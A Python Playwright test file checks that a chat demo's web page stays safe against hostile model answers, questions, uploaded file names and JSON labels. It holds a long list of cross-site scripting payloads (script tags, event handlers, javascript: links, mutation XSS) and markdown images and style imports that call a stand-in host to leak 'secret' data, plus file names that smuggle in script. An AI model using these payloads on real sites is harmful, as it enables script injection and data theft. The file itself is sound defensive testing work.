"""Hostile words in a real browser: in the answer, in the question, in a file's name. Nothing runs, nothing leaves."""

import re
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from qwen_demo.engines.scripted import Script
from tests.browser import find
from tests.hostile import photo, saved

expect.set_options(timeout=30_000)

END = "THE END"
# Each tells of its success by setting `window.pwned`, or by asking HOST for something.
HOSTILE = """
<script>window.pwned='script'</script>
<img src=x onerror="window.pwned='onerror'">
<svg/onload="window.pwned='svg'"><svg><animate onbegin="window.pwned='animate'" attributeName=x></svg>
<iframe srcdoc="<script>parent.pwned='iframe'</script>"></iframe><iframe src="http://HOST/frame"></iframe>
<details open ontoggle="window.pwned='toggle'">x</details><body onload="window.pwned='body'">
<a href="javascript:window.pwned='href'" id="trap">click</a> [click](javascript:window.pwned='md')
<form action="http://HOST/form"><input name=q autofocus onfocus="window.pwned='focus'"><button>go</button></form>
<object data="http://HOST/object"></object><embed src="http://HOST/embed"><base href="http://HOST/">
<meta http-equiv="refresh" content="0;url=http://HOST/refresh"><link rel=stylesheet href="http://HOST/css">
<style>@import url(http://HOST/import); body{background:url(http://HOST/background)}</style>
<div style="background:url(http://HOST/style);position:fixed;inset:0;z-index:99999">cover</div>
<video src="http://HOST/video" autoplay onerror="window.pwned='video'"></video><audio src="http://HOST/audio"></audio>
<math><mtext><table><mglyph><style><img src=x onerror="window.pwned='mutation'"></style></mglyph></table></mtext></math>

![stolen](http://HOST/image?words=secret) ![x](http://HOST/x "t") [![y](http://HOST/y)](http://HOST/z)
<img src="http://HOST/img?secret"><img srcset="http://HOST/srcset 2x"><image><source srcset="http://HOST/source"></image>

[a link](https://foreign.example/page) <https://foreign.example/auto>

```html
<script>window.pwned='code'</script>
```
```mermaid
graph TD; A["<img src=x onerror=window.pwned='mermaid'>"] --> B; click A "javascript:window.pwned='click'"
```
$\\href{javascript:window.pwned='latex'}{x}$ $$\\url{javascript:window.pwned='latex'}$$ $\\includegraphics{http://HOST/latex}$

THE END
"""


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        arguments = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
        browser = playwright.chromium.launch(executable_path=find(), args=arguments)
        yield browser
        browser.close()


@pytest.fixture
def opened(chromium):
    """Opens the page and writes down every address that the browser asks for."""
    contexts = []

    def open_(app) -> Page:
        contexts.append(chromium.new_context())
        page = contexts[-1].new_page()
        page.set_default_timeout(30_000)
        page.asked = []
        page.on("request", lambda request: page.asked.append(request.url))
        page.on("dialog", lambda dialog: page.asked.append(f"dialog://{dialog.message}"))
        page.goto(app.url)
        expect(page.locator("#question textarea")).to_be_visible()
        return page

    yield open_
    for context in contexts:
        context.close()


def ask(page: Page, text: str) -> None:
    page.locator("#question textarea").fill(text)
    page.locator("#question textarea").press("Enter")


def foreign(page: Page, app) -> list[str]:
    """What was asked of anybody else."""
    own = urlsplit(app.url).netloc
    return [
        url
        for url in page.asked
        if urlsplit(url).scheme in ("http", "https", "ws", "dialog") and urlsplit(url).netloc != own
    ]


def nothing_happened(page: Page, app, canary) -> None:
    page.wait_for_timeout(1000)  # for what would come late
    assert page.evaluate("window.pwned") is None
    assert canary.visits == []
    assert page.url.rstrip("/") == app.url
    for tag in ("script", "iframe", "object", "embed", "base", "meta", "link"):
        assert page.locator(f"#chat .message {tag}").count() == 0, tag
    assert page.locator("#chat .message [onerror], #chat .message [onload], #chat .message [onfocus]").count() == 0
    assert page.locator("#chat .message a[href^='javascript' i]").count() == 0


def test_a_hostile_answer_runs_no_script_and_sends_nothing_away(start, opened, canary):
    words = re.findall(r"\S*\s+|\S+$", HOSTILE.replace("HOST", canary.host))
    app = start(Script(words, gap_s=0.001), max_new_tokens=4096)
    page = opened(app)
    ask(page, "go on")
    expect(page.locator("#chat .bot.message").first).to_contain_text(END)
    links = page.locator("#chat .message a[href^='https://foreign.example']")
    expect(links.first).to_be_visible()
    for link in links.all():
        assert link.get_attribute("target") == "_blank"
        assert "noopener" in (link.get_attribute("rel") or "")
    page.locator("#question textarea").click(timeout=10_000)  # nothing lies over the page
    nothing_happened(page, app, canary)
    page.evaluate("document.querySelectorAll('#chat .message form').forEach(form => form.submit())")
    page.wait_for_timeout(500)
    assert canary.visits == []  # a form may stay, but the policy lets it send nothing
    # The browser may have wished to; the policy of the page held it back before a byte left.
    sent = [url for url in foreign(page, app) if urlsplit(url).netloc not in (canary.host, "foreign.example")]
    assert sent == []


def test_a_hostile_question_is_as_harmless(start, opened, canary):
    app = start(Script([END]))
    page = opened(app)
    ask(page, HOSTILE.replace("HOST", canary.host))
    expect(page.locator("#chat .bot.message").first).to_contain_text(END)
    nothing_happened(page, app, canary)


def test_a_hostile_file_name_is_as_harmless(start, opened, canary, tmp_path):
    app = start(Script([END]))
    page = opened(app)
    names = ["<img src=x onerror=pwned='name'>.png", "a' onerror='pwned=1' x='.png", '"><script>pwned=1<!--.png']
    files = []
    for name in names:
        data = saved(photo(), "PNG") if name != names[2] else b"no image"
        files.append({"name": name, "mimeType": "image/png", "buffer": data})
    page.locator("#question input[type=file]").set_input_files(files)
    expect(page.locator("#question img").nth(1)).to_be_visible()
    ask(page, "what?")
    expect(page.locator("#chat")).to_contain_text("⚠")
    nothing_happened(page, app, canary)


def test_boxes_as_json_are_shown_as_text(start, opened, canary):
    boxes = '```json\n[{"bbox_2d": [1e999, -1, "a", null], "label": "<img src=x onerror=pwned=1>"}]\n```\nTHE END'
    app = start(Script([boxes]))
    page = opened(app)
    ask(page, "where?")
    expect(page.locator("#chat .bot.message").first).to_contain_text("<img src=x onerror=pwned=1>")
    nothing_happened(page, app, canary)


def test_nothing_is_asked_of_anybody_else_by_the_page_itself(start, opened):
    app = start(Script([END]))
    page = opened(app)
    ask(page, "hello")
    expect(page.locator("#chat .bot.message").first).to_contain_text(END)
    page.wait_for_timeout(500)
    assert foreign(page, app) == []


def test_no_other_site_may_frame_the_page(start, opened, canary, chromium):
    app = start()
    page = chromium.new_context().new_page()
    page.goto(canary.url)
    page.set_content(f"<iframe src='{app.url}'></iframe>")
    page.wait_for_timeout(1500)
    inner = [frame for frame in page.frames if frame.parent_frame]
    assert all(frame.locator("#question").count() == 0 for frame in inner)
    page.context.close()
